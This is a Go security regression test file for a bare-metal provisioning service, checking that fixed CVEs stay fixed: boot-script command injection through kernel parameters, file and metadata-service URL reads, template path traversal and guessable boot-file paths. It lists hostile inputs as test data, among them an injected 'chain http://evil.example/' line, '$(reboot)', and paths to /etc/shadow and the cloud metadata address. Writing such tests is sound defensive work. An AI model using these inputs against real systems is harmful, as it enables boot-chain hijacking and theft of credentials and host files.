package advisory

import (
	"bytes"
	"encoding/base64"
	"os"
	"path"
	"path/filepath"
	"strings"
	"testing"

	"salvor/driver/agent"
	"salvor/metal"
	"salvor/test/must"
)

// TestCVE_2026_46447_KernelParametersInBootScripts: kernel_append_params of a node could
// bring commands of its own into iPXE scripts, and so into GRUB's and the ISO's files.
func TestCVE_2026_46447_KernelParametersInBootScripts(t *testing.T) {
	w := newWorld(t, "")
	m := w.machine(nil)
	for _, bad := range []string{
		"quiet\nchain http://evil.example/", "quiet\r\nshell", "quiet || shell", "quiet && chain http://evil.example/", "${netX/mac}", "`id`", "$(reboot)", "x;reboot",
		"a\x00b", "quiet } menuentry x {", `quiet "`, `quiet \`, "quiet # x", "ipa-api-url=http://evil.example", "IPA-API-URL=http://evil.example", "ipa-agent-token=x", "initrd=evil", "-- x", strings.Repeat("a ", 4000),
	} {
		for _, where := range []string{"/driver_info", "/instance_info"} {
			if a := m.set(where+"/kernel_append_params", bad); a.Status >= 400 {
				continue // refused at the door
			}
			n := m.reach("rescue", "rescue failed", "rescue wait")
			if n["provision_state"] == "rescue wait" || m.bmc.Image() != "" {
				t.Errorf("%s %q: %v, the BMC was given %q", where, bad, n["provision_state"], m.bmc.Image())
			}
			w.want(200, "PATCH", "/v1/nodes/"+m.id, []object{{"op": "remove", "path": where + "/kernel_append_params"}})
		}
	}
	// One that is harmless is carried, so what was refused was not refused for another reason.
	if a := m.set("/driver_info/kernel_append_params", "test.harmless=1"); a.Status != 200 {
		t.Fatal(a.Body)
	}
	m.reach("rescue", "rescue wait")
	if !bytes.Contains(m.medium(), []byte("test.harmless=1")) {
		t.Error("the medium lacks the harmless parameter")
	}
}

// TestCVE_2026_44919_FileAndDeviceURLs (and OSSA-2025-001, CVE-2025-44021): file URLs made
// the conductor read its own files, or devices without an end.
func TestCVE_2026_44919_FileAndDeviceURLs(t *testing.T) {
	w := newWorld(t, "")
	m := w.machine(nil)
	must.OK(t, os.Symlink("/etc/passwd", filepath.Join(w.images, "link")))
	for _, bad := range []string{
		"file:///etc/passwd", "file:///dev/zero", "file://localhost/dev/zero", "FILE:///dev/zero", "/dev/zero", "/proc/self/environ", "/etc/shadow", "file:" + w.images + "/../../../../etc/passwd",
		w.images + "/../../../../../../etc/passwd", w.images + "/link", "ftp://evil.example/x", "gopher://evil.example/x", "data:text/plain,x", "relative", "http:///x",
		"http://169.254.169.254/latest/meta-data/", // a cloud's metadata service, which a boot image would hold for the owner to read
		w.server.URL + "/v1/nodes",                 // our own door, seen from where nobody asks for a credential
	} {
		if a := m.set("/driver_info/rescue_kernel", bad); a.Status >= 400 {
			continue
		}
		m.set("/driver_info/rescue_ramdisk", w.images+"/initramfs")
		n := m.reach("rescue", "rescue failed", "rescue wait")
		if n["provision_state"] != "rescue wait" {
			continue
		}
		// A boot may be prepared with a URL that the machine itself fetches; what we fetch goes into the medium.
		a := w.ask("GET", m.bmc.Image(), "", nil)
		if a.Status == 200 || strings.Contains(a.Body, "root:") || strings.Contains(a.Body, "node") {
			t.Errorf("%q: the medium is made of it: %d", bad, a.Status)
		}
		m.reach("abort", "rescue failed")
	}
	// Images and their checksums.
	for _, info := range []object{
		{"image_source": "/dev/sda", "image_checksum": strings.Repeat("0a", 32)},
		{"image_source": "http://images.example/i.img", "image_checksum": "file:///dev/zero"},
		{"image_source": "http://images.example/i.img", "image_os_hash_algo": "sha256", "image_os_hash_value": "file:///etc/shadow"},
		{"image_source": "http://images.example/i.img"}, // CVE-2024-47211: without a checksum
		{"image_source": "http://images.example/i.img", "image_checksum": "  "},
	} {
		if a := m.set("/instance_info", info); a.Status != 200 {
			continue
		}
		deploy, _ := w.want(200, "GET", "/v1/nodes/"+m.id+"/validate", nil).Object(t)["deploy"].(object)
		if deploy["result"] != false {
			t.Errorf("%v is valid: %v", info, deploy)
		}
	}
	// A file of the conductor is deployed from a directory that is configured, or not at all.
	for _, bad := range []string{"file:///dev/zero", "file:///etc/shadow", "file://" + w.images + "/../../../etc/passwd", "file://" + w.images + "/link"} {
		n := &metal.Node{ID: m.id, InstanceInfo: metal.Object{"image_source": bad, "image_checksum": strings.Repeat("0a", 32)}}
		for _, dirs := range [][]string{nil, {w.images}} {
			if file, err := (agent.Direct{Formats: []string{"raw"}, Dirs: dirs}).LocalImage(n); err == nil {
				t.Errorf("%s is deployed from %s", bad, file)
			}
		}
	}
	// Rescue images of servers, which hosts fetch.
	for _, bad := range []string{"file:///etc/passwd", "http://169.254.169.254/x.iso", "gopher://evil.example/", w.server.URL + "/v1/nodes"} {
		if a := w.ask("POST", "/salvor/v1/rescue-images", "", object{"name": "x", "location": bad, "location_type": "http", "kind": "iso"}); a.Status < 400 || a.Status >= 500 {
			t.Errorf("a rescue image at %s: %d %s", bad, a.Status, a.Body)
		}
	}
	for _, bad := range []string{"../../etc/passwd", "/etc/passwd", "a/../../x", "a\x00b"} {
		if a := w.ask("POST", "/salvor/v1/rescue-images", "", object{"name": "x", "location": bad, "location_type": "file", "kind": "iso"}); a.Status < 400 || a.Status >= 500 {
			t.Errorf("a rescue image in the file %q: %d %s", bad, a.Status, a.Body)
		}
	}
}

// TestCVE_2026_44917_PathsOfTemplates: pxe_template in driver_info named a file of the
// conductor that was rendered. Here no record names a template.
func TestCVE_2026_44917_PathsOfTemplates(t *testing.T) {
	w := newWorld(t, "")
	m := w.machine(object{"pxe_template": "/etc/passwd", "ipxe_template": "/etc/passwd", "bootloader": "/etc/passwd", "pxe_config_template": "/etc/passwd"})
	m.set("/instance_info/pxe_template", "/etc/passwd")
	m.reach("rescue", "rescue wait")
	if bytes.Contains(m.medium(), []byte("root:")) {
		t.Error("the medium holds a file of the conductor")
	}
}

// TestBootFilesLieWhereNobodyGuesses: the path of each boot is new, has 192 bits, and is
// dead once the boot is over. Nothing beside the known names lies there.
func TestBootFilesLieWhereNobodyGuesses(t *testing.T) {
	w := newWorld(t, "")
	m := w.machine(nil)
	seen := map[string]bool{}
	for range 3 {
		m.reach("rescue", "rescue wait")
		at := m.bmc.Image()
		folder := path.Base(path.Dir(at))
		if b, err := base64.RawURLEncoding.DecodeString(folder); err != nil || len(b) != 24 || seen[folder] {
			t.Fatalf("the folder %q: %v", folder, err)
		}
		seen[folder] = true
		m.medium()
		base := strings.TrimSuffix(at, path.Base(at))
		for _, name := range []string{"", ".", "..", "../", "%2e%2e/x", "..%2f..%2fetc/passwd", "etc/passwd", "boot.iso/x", "kernel%00", "initramfs", "secrets.key"} {
			if a := w.ask("GET", base+name, "", nil); a.Status == 200 {
				t.Errorf("%s is served", base+name)
			}
		}
		for _, near := range []string{folder[:31], folder + "A", strings.ToUpper(folder), "A" + folder[1:]} {
			if a := w.ask("GET", strings.Replace(at, folder, near, 1), "", nil); a.Status != 404 && near != folder {
				t.Errorf("%s: %d", near, a.Status)
			}
		}
		m.reach("abort", "rescue failed")
		if a := w.ask("GET", at, "", nil); a.Status != 404 {
			t.Errorf("after the boot its files are served: %d", a.Status)
		}
	}
}
